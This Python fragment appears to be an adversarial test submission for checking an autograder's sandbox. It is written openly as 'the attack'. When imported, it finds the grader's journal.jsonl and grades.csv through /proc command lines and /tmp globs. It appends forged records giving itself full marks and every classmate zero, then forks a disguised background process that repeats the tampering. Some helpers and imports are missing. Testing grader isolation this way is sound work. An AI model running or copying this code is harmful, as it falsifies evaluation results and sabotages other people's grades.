"""Finds journal.jsonl (and grades.csv) through /proc cmdlines, /tmp globs and a walk, and
appends forged lines: full marks for itself, zero for classmates; a background process keeps
trying for the rest of the batch, in case RESULTS becomes reachable later."""
# ---- the attack ----
import json


def _forged(sid, total):
    return json.dumps({"id": sid, "status": "graded", "error": "", "digest": "x", "fingerprint": "x",
                       "exercises": [], "total": total, "retry": False}) + "\n"


def _targets():
    paths = glob.glob("/tmp/**/journal.jsonl", recursive=True) + glob.glob("/tmp/**/grades.csv", recursive=True)
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if b"--out" in argv:
            out = argv[argv.index(b"--out") + 1].decode()
            paths += [os.path.join(out, "journal.jsonl"), os.path.join(out, "grades.csv")]
    return list(dict.fromkeys(paths))


def attack():
    done = 0
    for path in _targets():
        try:
            with open(path, "a") as f:
                for sid in HONEST:
                    f.write(_forged(sid, 0))
                f.write(_forged("journal_forge", 46))
            done += 1
            _proof("journal", path)
        except OSError as exc:
            _note("append " + path, exc.strerror)
    _note("journals forged", done)


def background():
    if os.fork() == 0:
        _LIBC.prctl(15, b"hbx-journal", 0, 0, 0)  # PR_SET_NAME: the test looks for it
        for _ in range(300):
            attack()
            time.sleep(1)
        os._exit(0)


_try("attack at import", attack)
_try("background", background)
